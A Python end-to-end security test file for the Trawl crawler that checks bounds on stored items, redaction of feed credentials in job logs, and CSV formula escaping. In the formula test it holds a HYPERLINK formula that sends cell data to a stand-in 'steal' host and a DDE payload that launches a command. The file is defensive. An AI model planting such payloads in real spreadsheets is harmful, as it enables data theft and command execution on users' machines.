"""Stores a requester fills are bounded, and what Trawl writes out is safe to open (issue 41), end to end: real
worker processes, an ordinary requester's token, the attacker's site on 127.0.0.2.

- a page whose `<title>` is 30 MiB (just under DOWNLOAD_MAXSIZE): the item is dropped in the crawl, counted, the job
  ends `succeeded`, nothing of it is stored and the worker's memory stays within a bound;
- `attrs` of 2 MiB (copied into every item) and a sitemap `max_urls` over TRAWL_SITEMAP_MAX_URLS: 400 naming them;
- an admin's feed URI with credentials: Scrapy's "Error storing ... feed ... in: <uri>" reaches the job's log, which
  the requester reads, without them;
- items whose fields start with `=HYPERLINK(...)`: the CSV export escapes them (OWASP: a leading `'`);
- thousands of domains slowed by the adaptive controller: /metrics has at most TRAWL_METRICS_MAX_DOMAINS of them.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.conf import settings

from crawls.models import CrawlJob
from project.redis import get_redis
from registry.models import Scraper, ScraperVersion
from tests.clients import client_for
from tests.security.hostile_site import HostileSite, page, submit, wait_final
from tests.throttling.adaptive_helpers import controller
from throttling.controller import Observed
from throttling.services import throttle_buckets

pytestmark = [pytest.mark.e2e, pytest.mark.django_db(transaction=True)]

HUGE_TITLE = "A" * (30 * 1024 * 1024)  # under DOWNLOAD_MAXSIZE (32 MiB): the page is fetched, its item is the problem
FORMULA = '=HYPERLINK("http://127.0.0.2/steal?"&A1,"Click for details")'
SECRET = "feed-secret-Pa55word"
HTML = {"Content-Type": "text/html"}
# What the worker's pool process may grow by while crawling the 30 MiB page. Parsing it costs ~160 MiB whatever
# happens to its item (the body, its text, lxml's tree, the title); the item copied on into the item queue, JSON
# and the database took the peak to ~430 MiB before items were bounded.
MEMORY_GROWTH_MAX = 256 * 1024 * 1024


def text_of(response) -> str:
    return (b"".join(response.streaming_content) if response.streaming else response.content).decode()


def peak_rss(worker) -> int:
    """The highest resident size any of the worker's pool processes reached so far (VmHWM), in bytes."""
    peaks = [0]
    for pid in worker.pool_pids():
        with open(f"/proc/{pid}/status") as status:
            peaks += [int(line.split()[1]) * 1024 for line in status if line.startswith("VmHWM:")]
    return max(peaks)


def test_a_30_mib_field_is_dropped_and_the_job_ends(mode, mode_web_settings, mode_worker, builtins, api):
    routes = {
        "/": (200, HTML, page("/huge", "/ok")),
        "/huge": (200, HTML, f"<html><title>{HUGE_TITLE}</title><body>big</body></html>"),
        "/ok": (200, HTML, page(title="Fine")),
        "/robots.txt": (200, {}, ""),
    }
    with HostileSite(routes) as site:
        before = peak_rss(mode_worker)
        job = wait_final(submit(api, url=f"{site.url}/", options={"maxdepth": 1}), mode_worker)
        growth = peak_rss(mode_worker) - before

        assert site.hits["/huge"] == 1
    print(
        f"\n[{mode}] {job.status} in {job.duration:.1f}s; stats items={job.stats.get('items')} "
        f"dropped={job.stats.get('items_dropped')}; pool peak RSS grew {growth / 2**20:.0f} MiB"
    )
    assert job.status == "succeeded", (job.error_class, job.error_message)
    assert job.stats["items_dropped"] == job.stats["items_oversize"] == 1 and job.stats["items"] == 2
    items = api.get(f"/api/jobs/{job.pk}/items/").json()["results"]
    assert {item["url"] for item in items} == {f"{site.url}/", f"{site.url}/ok"}
    exported = text_of(api.get(f"/api/jobs/{job.pk}/items/?format=jsonl"))
    assert len(exported) < settings.TRAWL_ITEM_MAX_BYTES
    log = text_of(api.get(f"/api/jobs/{job.pk}/log/"))
    assert f"item of {site.url}/huge dropped: field 'title' holds more than" in log
    assert "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" not in log
    assert growth < MEMORY_GROWTH_MAX


def test_attrs_over_the_bound_are_a_400_naming_attrs(mode_web_settings, builtins, api):
    attrs = {"note": "x" * (1900 * 1024)}  # 2 MiB less the rest of the body: under the request body cap

    single = api.post("/api/jobs/", {"url": "http://shop.test/", "options": {"attrs": attrs}}, format="json")
    batch = api.post("/api/batches/", {"jobs": [{"url": "http://shop.test/", "options": {"attrs": attrs}}]}, "json")

    assert single.status_code == 400, single.content
    assert "attrs" in single.json()["options"] and "bytes" in str(single.json())
    assert batch.status_code == 400 and "attrs" in str(batch.json()["jobs"])
    assert not CrawlJob.objects.exists()


def test_a_sitemap_max_urls_over_the_cap_is_a_400_naming_it(mode_web_settings, builtins, api):
    options = {"config": {"max_urls": settings.TRAWL_SITEMAP_MAX_URLS + 1}}

    response = api.post("/api/jobs/", {"url": "http://shop.test/sitemap.xml", "scraper": "sitemap", "options": options})

    assert response.status_code == 400, response.content
    assert "max_urls" in response.json()["options"]["config"]
    assert not CrawlJob.objects.exists()


def test_feed_credentials_never_reach_the_job_log(mode, mode_web_settings, mode_worker, builtins, api):
    # An admin's version exporting to an FTP server with its password in the URI; nothing listens there, so Scrapy
    # logs "Error storing csv feed (2 items) in: <uri>" with the connection's traceback.
    feed = f"ftp://trawl:{SECRET}@127.0.0.1:9/%(job_id)s.csv"
    scraper = Scraper.objects.create(name="exporting")
    spider = "runtime.spiders.link.LinkSpider"
    settings_ = {"FEEDS": {feed: {"format": "csv"}}, "FEED_STORAGE_FTP_ACTIVE": False}
    ScraperVersion.objects.create(scraper=scraper, version="1.0.0", spider=spider, is_default=True, settings=settings_)
    routes = {"/": (200, HTML, page("/a")), "/a": (200, HTML, page()), "/robots.txt": (200, {}, "")}
    with HostileSite(routes) as site:
        job = wait_final(submit(api, url=f"{site.url}/", scraper="exporting", options={"maxdepth": 1}), mode_worker)

    log = text_of(api.get(f"/api/jobs/{job.pk}/log/"))
    print(f"\n[{mode}] {job.status}; feed lines: {[line for line in log.splitlines() if 'feed (' in line]}")
    assert "csv feed (2 items) in: ftp://***@127.0.0.1:9/" in log
    assert SECRET not in log and SECRET not in text_of(api.get(f"/api/jobs/{job.pk}/"))


def test_csv_exports_escape_formulas(mode, mode_web_settings, mode_worker, builtins, api):
    routes = {"/": (200, HTML, page(title=FORMULA)), "/robots.txt": (200, {}, "")}
    with HostileSite(routes) as site:
        job_id = submit(api, url=f"{site.url}/", options={"attrs": {"note": "@SUM(1+1)*cmd|' /C calc'!A0"}})
        job = wait_final(job_id, mode_worker)
    assert job.status == "succeeded", (job.error_class, job.error_message)

    rows = list(csv.DictReader(io.StringIO(text_of(api.get(f"/api/jobs/{job_id}/items/?format=csv")))))

    assert [row["data.title"] for row in rows] == ["'" + FORMULA]
    assert [row["data.note"] for row in rows] == ["'@SUM(1+1)*cmd|' /C calc'!A0"]
    assert [row["data.status"] for row in rows] == ["200"]  # numbers stay numbers


def test_metrics_show_a_bounded_set_of_slowed_domains(mode_web_settings, builtins, api):
    """Thousands of domains slowed through the controller itself (error windows): /metrics has a series for the
    TRAWL_METRICS_MAX_DOMAINS most slowed and one count for all."""
    client, buckets = get_redis(), throttle_buckets()
    control = controller(buckets)
    hosts = [f"site{n}.example" for n in range(3000)]
    for host in hosts:
        control.observe(client, host=host, observed=Observed(requests=10, errors=8, latency_sum=0.5, timed=10))
    try:
        assert api.get("/metrics").status_code == 401  # a requester's token does not read them
        metrics = text_of(client_for("ops", admin=True).get("/metrics"))
    finally:
        client.delete(buckets.adaptive_index_key(), *[buckets.state_key(host) for host in hosts])

    domains = set(re.findall(r'trawl_throttle_effective_rate\{cause="[a-z]+",domain="([^"]+)"\}', metrics))
    print(f"\n{len(hosts)} slowed domains: {len(domains)} listed; {len(metrics)} bytes of metrics")
    assert 0 < len(domains) <= settings.TRAWL_METRICS_MAX_DOMAINS
    assert "trawl_throttle_slowed_domains 3000.0" in metrics
